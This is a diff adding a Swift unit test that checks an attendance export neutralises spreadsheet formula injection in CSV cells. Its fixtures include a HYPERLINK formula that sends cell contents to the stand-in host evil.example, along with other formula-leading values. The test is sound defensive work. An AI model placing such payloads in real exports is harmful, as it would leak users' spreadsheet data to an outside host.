@@ -21,6 +21,29 @@ struct AttendanceExportTests {
         #expect(header.hasPrefix("session_id,session_title,session_kind,location,starts_at,ends_at,participant_id,"))
     }
 
+    @Test("CSV cells that a spreadsheet would run as a formula get a ' in front; numbers and JSON Lines stay as they are")
+    func formulasNeutralised() throws {
+        var hostile = row
+        hostile.participantName = #"=HYPERLINK("http://evil.example/?x="&A1,"click")"#
+        hostile.sessionTitle = "+SUM(1,2)"
+        hostile.location = "@cmd"
+        hostile.cohort = "-2+3"
+        hostile.kioskID = "\tk1"
+        hostile.groupID = "\rC1"
+        let csv = String(decoding: try AttendanceExport.encode([hostile], as: .csv), as: UTF8.self)
+        #expect(csv.contains(#","'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","#), "\(csv)")
+        #expect(csv.contains(#""'+SUM(1,2)""#) && csv.contains(",'@cmd,") && csv.contains(",'-2+3\r\n") && csv.contains(",'\tk1,"))
+        #expect(csv.contains("\"'\rC1\""), "a CR cell is quoted and neutralised")
+        for cell in ["-3", "+0.5", "-0.2500", "42", "plain", "'=already"] {
+            #expect(SpreadsheetSafety.neutralised(cell) == cell, "\(cell) stays")
+        }
+        for cell in ["=1+1", "-", "-x", "+", "@", "\t", "\r", "=", "-1e5", "- 3"] {
+            #expect(SpreadsheetSafety.neutralised(cell) == "'" + cell, "\(cell) is neutralised")
+        }
+        let jsonl = String(decoding: try AttendanceExport.encode([hostile], as: .jsonl), as: UTF8.self)
+        #expect(jsonl.contains(#""participant_name":"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")""#), "\(jsonl)")
+    }
+
     @Test("JSON Lines: every column, typed, null when empty, sorted keys")
     func jsonl() throws {
         let text = String(decoding: try AttendanceExport.encode([row, row], as: .jsonl), as: UTF8.self)
